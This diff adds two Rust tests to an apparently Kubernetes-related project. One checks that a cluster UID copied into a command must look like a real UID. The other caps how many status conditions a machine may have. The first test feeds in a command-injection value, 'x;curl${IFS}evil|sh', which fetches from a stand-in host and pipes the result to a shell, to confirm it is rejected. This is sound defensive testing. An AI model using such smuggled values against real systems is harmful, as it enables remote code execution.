@@ -9,7 +9,7 @@ use resus_core::nhc::Event;
 use resus_core::time::Wall;
 use resus_k8s::feed::{self, Line};
 use resus_k8s::names::Places;
-use resus_k8s::observe::{Keep, machine_of_node};
+use resus_k8s::observe::{self, Keep, machine_of_node};
 use resus_k8s::{answer, encode};
 use serde_json::{Value, json};
 
@@ -224,4 +224,28 @@ fn answers_show_what_became_of_it() {
     }
     let looked = answer(&Effect::Look { cluster: Some(cluster()), node: "m".into() });
     assert!(matches!(looked, Some(Fact::Node(_))));
+}
+
+/// It is shown in a command that people copy.
+#[test]
+fn who_a_cluster_is_must_look_like_a_uid() {
+    let effect = Effect::Identify { cluster: cluster() };
+    for (uid, is_one) in
+        [("6f0c9a4e-3b1d-4c9e-8a55-0d2c7f1e9b10", true), ("x;curl${IFS}evil|sh", false), ("", false), ("a b", false)]
+    {
+        let body = json!({"metadata": {"name": "kube-system", "uid": uid}}).to_string();
+        let answer = answer::decode(&effect, &Keep::default(), &Response::new(body.into_bytes()));
+        assert_eq!(matches!(answer, Input::Answered(_, Answer::Done(Some(Fact::Identity { .. })))), is_one, "{uid}: {answer:?}");
+    }
+}
+
+/// To look through thousands of them at each change would keep us busy.
+#[test]
+fn a_machine_with_too_many_conditions_cannot_be_read() {
+    for (many, is_read) in [(100, true), (101, false)] {
+        let conditions: Vec<Value> = (0..many).map(|n| json!({"type": format!("Kind{n}"), "status": "True"})).collect();
+        let machine = json!({"metadata": {"name": "m", "namespace": "n", "uid": "u"}, "status": {"conditions": conditions}});
+        let read = observe::machine(machine.to_string().as_bytes(), Dialect::V1beta2);
+        assert_eq!(read.is_ok(), is_read, "{many}: {:?}", read.err());
+    }
 }
